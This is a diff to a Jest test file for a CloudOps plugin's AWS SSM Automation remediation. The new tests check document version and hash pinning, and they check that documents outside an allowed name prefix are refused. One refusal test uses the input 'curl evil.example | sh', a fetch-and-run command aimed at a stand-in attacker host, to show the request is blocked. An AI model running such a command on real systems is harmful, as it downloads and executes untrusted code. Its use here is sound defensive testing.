@@ -164,14 +164,25 @@ describe('SSM Automation remediation in the CloudOps plugin', () => {
     return { settled, timeline, approve };
   }
 
+  /** A request awaiting approval, its plan pinned to version 1 of the document. */
+  async function awaitingApproval() {
+    const started = await start(false, {}, { approval: { required: true } });
+    const waiting = await started.settled(['awaiting-approval', 'failed']);
+    expect(waiting.policy).toMatchObject({
+      pin: {
+        documentVersion: '1',
+        documentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
+      },
+    });
+    return started;
+  }
+
   /**
    * A request awaiting approval, its plan pinned to version 1 of the
    * document; then version 2, which terminates, becomes the default.
    */
   async function approvalWhileDocumentChanges() {
-    const started = await start(false, {}, { approval: { required: true } });
-    const waiting = await started.settled(['awaiting-approval', 'failed']);
-    expect(waiting.policy).toMatchObject({ pin: { documentVersion: '1' } });
+    const started = await awaitingApproval();
     env.fake.ssm.updateDocument(A, REGION, RESTART, {
       steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
     });
@@ -230,6 +241,25 @@ describe('SSM Automation remediation in the CloudOps plugin', () => {
     expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
   });
 
+  it('fails the request at once, saying the document changed, when the document was deleted and created again with other content', async () => {
+    const { settled, approve } = await awaitingApproval();
+    env.fake.ssm.deleteDocument(A, REGION, RESTART);
+    env.fake.ssm.addDocument(A, REGION, {
+      Name: RESTART,
+      Parameters: [
+        { Name: 'InstanceId', Type: 'String' },
+        { Name: 'AutomationAssumeRole', Type: 'String' },
+      ],
+      steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
+    });
+    await approve();
+    const failed = await settled(['failed', 'succeeded']);
+    expect(failed.outcome.summary).toBe(
+      `The execute step gave up after 1 attempt(s): SSM document ${RESTART} version 1, the version planned and approved, has other content now in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run; request it again to plan the current version (its Sha256 hash is not the one approved)`,
+    );
+    expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
+  });
+
   it('never starts an automation in read-only mode: the document is described and checked, nothing runs', async () => {
     const { settled, timeline } = await start(true);
     const done = await settled(['blocked', 'succeeded', 'failed']);
@@ -265,6 +295,29 @@ describe('SSM Automation remediation in the CloudOps plugin', () => {
       .expect(200);
     expect(listed.body.items).toEqual([]);
     expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
+  });
+
+  it('refuses a request for a document CloudOps may not run, naming it and the allowed prefixes, and stores nothing', async () => {
+    env.fake.ssm.addDocument(A, REGION, {
+      Name: 'AWS-RunShellScript',
+      Parameters: [{ Name: 'commands', Type: 'StringList' }],
+    });
+    const { server, incidentId, ask } = await startBackend(false);
+    const refused = await ask(
+      { commands: 'curl evil.example | sh' },
+      { ref: 'AWS-RunShellScript' },
+    ).expect(400);
+    expect(refused.body.error).toMatchObject({
+      name: 'InputError',
+      message:
+        'SSM document AWS-RunShellScript is not one CloudOps may run: its name must start with CloudOps- (cloudops.aws.ssm.documentPrefixes)',
+    });
+    const listed = await request(server)
+      .get('/api/cloudops/remediations')
+      .query({ incidentId })
+      .expect(200);
+    expect(listed.body.items).toEqual([]);
+    expect(env.fake.callsTo('ssm')).toEqual([]);
   });
 
   it('stops the automation when the last attempt of the execution times out, and the request fails', async () => {
